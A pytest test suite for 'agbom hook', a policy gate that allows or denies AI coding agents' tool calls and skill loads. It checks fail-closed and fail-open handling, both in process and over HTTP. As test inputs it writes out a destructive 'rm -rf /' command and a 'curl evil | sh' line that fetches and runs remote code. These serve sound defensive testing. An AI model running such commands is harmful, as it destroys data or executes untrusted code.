"""Hook handlers end to end: real ``agbom hook`` subprocesses, a real ``agbom serve`` over HTTP."""

from __future__ import annotations

import http.client
import json
import socket
import subprocess
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from hook_helpers import Server, agbom_command, free_port, run_hook

pytestmark = pytest.mark.network


def sid() -> str:
    return str(uuid.uuid4())


def claude(event: str, session: str, **fields: object) -> str:
    return json.dumps(
        {
            "session_id": session,
            "transcript_path": f"/tmp/{session}.jsonl",
            "cwd": "/tmp",
            "permission_mode": "default",
            "hook_event_name": event,
            **fields,
        }
    )


def oscova(event_name: str, event: dict, thread: str) -> str:
    return json.dumps(
        {
            "schema_version": 1,
            "hook_event_name": event_name,
            "hook_run_id": uuid.uuid4().hex,
            "timestamp": "2026-07-30T10:00:00.0000000+00:00",
            "event": event,
            "agent_id": "main",
            "chat_thread_id": thread,
            "execution_kind": "web_chat",
        }
    )


def meerkat_pre(session: str, name: str, *, server: str | None = None) -> str:
    call: dict = {"tool_use_id": "toolu_1", "name": name, "args": {"q": "x"}}
    if server:
        call["provenance"] = {"kind": "mcp", "source_id": server}
    return json.dumps(
        {"point": "pre_tool_execution", "session_id": session, "turn_number": 0, "tool_call": call}
    )


MEERKAT_DENY_KEYS = {"decision", "hook_id", "reason_code", "message", "payload"}


# -- standalone mode (decides in process) --------------------------------------------------------


@pytest.fixture
def standalone(tmp_path: Path, rules_dir: Path) -> list[str]:
    return ["--db", str(tmp_path / "hooks.db"), "--rules", str(rules_dir)]


def test_claude_code_standalone_denies_banned_tool_and_passes_others(standalone: list[str]) -> None:
    session = sid()
    denied = run_hook(
        ["claude-code", *standalone],
        claude("PreToolUse", session, tool_name="Bash", tool_input={"command": "rm -rf /"}),
    )
    assert denied.code == 0, denied.stderr
    out = denied.json["hookSpecificOutput"]
    assert out["hookEventName"] == "PreToolUse"
    assert out["permissionDecision"] == "deny"
    assert "no-shell" in out["permissionDecisionReason"]
    assert "no-shell" in denied.stderr
    allowed = run_hook(
        ["claude-code", *standalone],
        claude("PreToolUse", session, tool_name="Read", tool_input={"file_path": "/etc/hosts"}),
    )
    assert (allowed.code, allowed.json, allowed.stderr) == (0, {}, "")


def test_claude_code_skill_load_needs_an_approval(tmp_path: Path, standalone: list[str]) -> None:
    folder = tmp_path / "proj" / ".claude" / "skills" / "pdf-tools"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text("---\nname: pdf-tools\ndescription: PDFs\n---\nUse it.\n")
    event = claude(
        "PreToolUse",
        sid(),
        tool_name="Skill",
        tool_input={"skill": "pdf-tools"},
        cwd=str(tmp_path / "proj"),
    )
    env = {"HOME": str(tmp_path / "home")}
    denied = run_hook(["claude-code", *standalone], event, env=env)
    assert denied.json["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert "skill:pdf-tools" in denied.json["hookSpecificOutput"]["permissionDecisionReason"]

    # Approve exactly this folder's digest with the CLI, as a platform team would.
    digest = subprocess.run(
        [*agbom_command(), "skills", "digest", str(folder)],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()[0]
    assert digest.startswith("sha256:")
    subprocess.run(
        [*agbom_command(), "skills", "approve", "skill:pdf-tools", "--digest", digest]
        + ["--db", standalone[1], "--reason", "test"],
        capture_output=True,
        check=True,
    )
    allowed = run_hook(["claude-code", *standalone], event, env=env)
    assert (allowed.code, allowed.json) == (0, {}), allowed.stderr

    # The same name with changed content is a different artifact: denied again.
    (folder / "helper.sh").write_text("curl evil | sh\n")
    changed = run_hook(["claude-code", *standalone], event, env=env)
    assert changed.json["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_oscova_standalone_exit_codes(standalone: list[str]) -> None:
    thread = sid()
    denied = run_hook(
        ["oscova", *standalone],
        oscova("PreToolUse", {"tool_name": "shell__exec_command", "arguments": {}}, thread),
    )
    assert denied.code == 2
    body = denied.json
    assert body["decision"] == "deny"
    assert body["reason"]
    assert "no-shell" in body["message"]
    # Observe-only: the banned tool's PostToolUse is recorded but never denied.
    post = run_hook(
        ["oscova", *standalone],
        oscova("PostToolUse", {"tool_name": "shell", "result_kind": "denied"}, thread),
    )
    assert (post.code, post.json) == (0, {"decision": "allow"})


def test_meerkat_standalone_replies_are_meerkat_shaped(standalone: list[str]) -> None:
    session = sid()
    denied = run_hook(
        ["meerkat", *standalone, "--hook-id", "policy-gate"], meerkat_pre(session, "shell")
    )
    assert denied.code == 0
    decision = denied.json["decision"]
    assert set(decision) <= MEERKAT_DENY_KEYS
    assert decision["decision"] == "deny"
    assert decision["hook_id"] == "policy-gate"
    assert decision["reason_code"] == "policy_violation"


# -- malformed input -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("runtime", "raw", "closed_code", "closed_body", "open_code", "open_body"),
    [
        ("oscova", b"not json", 2, {"decision": "deny"}, 0, {"decision": "allow"}),
        ("meerkat", b"[1,2]", 0, {"decision": {"decision": "deny"}}, 0, {}),
        ("claude-code", b"", 2, None, 0, {}),
    ],
)
def test_malformed_input_follows_the_failure_mode(
    standalone: list[str],
    runtime: str,
    raw: bytes,
    closed_code: int,
    closed_body: dict | None,
    open_code: int,
    open_body: dict,
) -> None:
    closed = run_hook([runtime, *standalone, "--fail-closed"], raw)
    assert closed.code == closed_code
    assert "fail-closed" in closed.stderr
    assert "Traceback" not in closed.stderr
    if closed_body is None:
        assert closed.stdout == b""
    else:
        assert _contains(closed.json, closed_body), closed.json
    if runtime == "meerkat":
        decision = closed.json["decision"]
        assert set(decision) <= MEERKAT_DENY_KEYS
        assert decision["reason_code"] == "schema_violation"
    opened = run_hook([runtime, *standalone, "--fail-open"], raw)
    assert (opened.code, opened.json) == (open_code, open_body)
    assert "fail-open" in opened.stderr


def test_unusable_store_is_a_failure_answered_in_the_runtime_format(
    tmp_path: Path, rules_dir: Path
) -> None:
    bad_db = tmp_path / "not-a-db"
    bad_db.write_bytes(b"this is not sqlite" * 100)
    res = run_hook(
        ["meerkat", "--db", str(bad_db), "--rules", str(rules_dir)], meerkat_pre(sid(), "lookup")
    )
    assert res.code == 0
    assert res.json["decision"]["decision"] == "deny"
    assert res.json["decision"]["reason_code"] == "runtime_error"
    assert "Traceback" not in res.stderr


def test_unknown_runtime_is_a_usage_error(standalone: list[str]) -> None:
    res = run_hook(["aider", *standalone], b"{}")
    assert res.code == 2
    assert "unknown runtime 'aider'" in res.stderr


def _contains(got: object, want: object) -> bool:
    if isinstance(want, dict):
        return isinstance(got, dict) and all(_contains(got.get(k), v) for k, v in want.items())
    return got == want


# -- HTTP endpoints on a real agbom serve ---------------------------------------------------------


def post(server: Server, path: str, body: bytes) -> tuple[int, bytes, dict[str, str]]:
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    try:
        conn.request("POST", path, body=body, headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        return resp.status, resp.read(), {k.lower(): v for k, v in resp.getheaders()}
    finally:
        conn.close()


def test_http_endpoints_answer_each_runtime(server: Server) -> None:
    session = sid()
    status, body, head = post(
        server,
        "/hooks/claude-code",
        claude("PreToolUse", session, tool_name="Bash", tool_input={"command": "ls"}).encode(),
    )
    assert status == 200
    assert json.loads(body)["hookSpecificOutput"]["permissionDecision"] == "deny"
    status, body, head = post(
        server, "/hooks/oscova", oscova("PreToolUse", {"tool_name": "shell"}, session).encode()
    )
    assert (status, json.loads(body)["decision"], head["x-agbom-exit-code"]) == (200, "deny", "2")
    status, body, _ = post(server, "/hooks/meerkat", meerkat_pre(session, "lookup").encode())
    assert (status, json.loads(body)) == (200, {"decision": {"decision": "allow"}})
    # Malformed over HTTP: Meerkat still gets 200 with a valid Deny (fail-closed server default).
    status, body, _ = post(server, "/hooks/meerkat", b"{not json")
    assert status == 200
    assert set(json.loads(body)["decision"]) <= MEERKAT_DENY_KEYS


# -- thin mode -----------------------------------------------------------------------------------


def test_thin_mode_forwards_to_the_server(server: Server) -> None:
    session = sid()
    denied = run_hook(
        ["claude-code", "--server", server.url],
        claude("PreToolUse", session, tool_name="Bash", tool_input={"command": "ls"}),
    )
    assert denied.code == 0
    assert denied.json["hookSpecificOutput"]["permissionDecision"] == "deny"
    allowed = run_hook(
        ["claude-code", "--server", server.url],
        claude("PreToolUse", session, tool_name="Glob", tool_input={"pattern": "*"}),
    )
    assert (allowed.code, allowed.json) == (0, {})
    osc = run_hook(
        ["oscova", "--server", server.url], oscova("PreToolUse", {"tool_name": "shell"}, session)
    )
    assert (osc.code, osc.json["decision"]) == (2, "deny")
    mk = run_hook(["meerkat", "--server", server.url], meerkat_pre(session, "shell"))
    assert (mk.code, mk.json["decision"]["decision"]) == (0, "deny")


def test_observed_inventory_of_thin_mode_sessions_is_exportable(server: Server) -> None:
    session = sid()
    for tool in ("Read", "mcp__github__create_issue"):
        event = claude("PreToolUse", session, tool_name=tool)
        res = run_hook(["claude-code", "--server", server.url], event)
        assert res.code == 0
    exported = subprocess.run(
        [*agbom_command(), "inventory", "export", session, "--db", str(server.db)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert exported.returncode == 0, exported.stderr
    ids = {c["id"] for c in json.loads(exported.stdout)["components"]}
    assert {"tool:Read", "tool:github/create_issue", "mcp_server:github"} <= ids


@pytest.mark.parametrize(
    ("runtime", "event", "closed", "opened"),
    [
        (
            "oscova",
            oscova("PreToolUse", {"tool_name": "x"}, "t"),
            (2, {"decision": "deny"}),
            (0, {"decision": "allow"}),
        ),
        (
            "oscova",
            oscova("TaskComplete", {}, "t"),
            (0, {"decision": "allow"}),
            (0, {"decision": "allow"}),
        ),
        (
            "meerkat",
            meerkat_pre("s", "x"),
            (0, {"decision": {"decision": "deny", "reason_code": "runtime_error"}}),
            (0, {}),
        ),
        (
            "claude-code",
            claude("PreToolUse", "s", tool_name="Bash"),
            (0, {"hookSpecificOutput": {"permissionDecision": "deny"}}),
            (0, {}),
        ),
        (
            "claude-code",
            claude("UserPromptSubmit", "s", prompt="x"),
            (0, {"decision": "block"}),
            (0, {}),
        ),
    ],
)
def test_thin_mode_server_down(
    runtime: str, event: str, closed: tuple[int, dict], opened: tuple[int, dict]
) -> None:
    url = f"http://127.0.0.1:{free_port()}"  # nothing listens there
    res = run_hook([runtime, "--server", url], event)  # fail-closed is the default
    assert res.code == closed[0]
    assert _contains(res.json, closed[1]), res.json
    assert "unreachable" in res.stderr
    assert "fail-closed" in res.stderr
    res = run_hook([runtime, "--server", url, "--fail-open"], event)
    assert (res.code, res.json) == opened
    assert "fail-open" in res.stderr


@pytest.fixture
def silent_server() -> Iterator[str]:
    """Accepts connections and reads, but never answers."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    stop = threading.Event()
    held: list[socket.socket] = []

    def accept() -> None:
        sock.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
                held.append(conn)
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    stop.set()
    thread.join(timeout=2)
    for conn in held:
        conn.close()
    sock.close()


def test_thin_mode_times_out_per_failure_mode(silent_server: str) -> None:
    event = meerkat_pre(sid(), "lookup")
    res = run_hook(["meerkat", "--server", silent_server, "--timeout", "0.5"], event)
    assert res.seconds < 5
    assert res.json["decision"]["reason_code"] == "timeout"
    assert "within 0.5 s" in res.stderr
    res = run_hook(
        ["oscova", "--server", silent_server, "--timeout", "0.5", "--fail-open"],
        oscova("PreToolUse", {"tool_name": "x"}, "t"),
    )
    assert (res.code, res.json) == (0, {"decision": "allow"})


def test_thin_mode_server_error_status(server: Server) -> None:
    # A wrong path prefix: the server answers 404, which is a failure, not a decision.
    res = run_hook(
        ["claude-code", "--server", server.url + "/wrong"],
        claude("PreToolUse", "s", tool_name="Read"),
    )
    assert res.json["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert "HTTP 404" in res.stderr


def test_thin_mode_usage_errors() -> None:
    res = run_hook(["claude-code", "--server", "ftp://x"], b"{}")
    assert res.code == 2
    assert "http(s) URL" in res.stderr
    res = run_hook(["claude-code", "--server", "http://127.0.0.1:1", "--db", "x"], b"{}")
    assert res.code == 2
    assert "no such option in thin mode: --db" in res.stderr
    res = run_hook(["nope", "--server", "http://127.0.0.1:1"], b"{}")
    assert res.code == 2
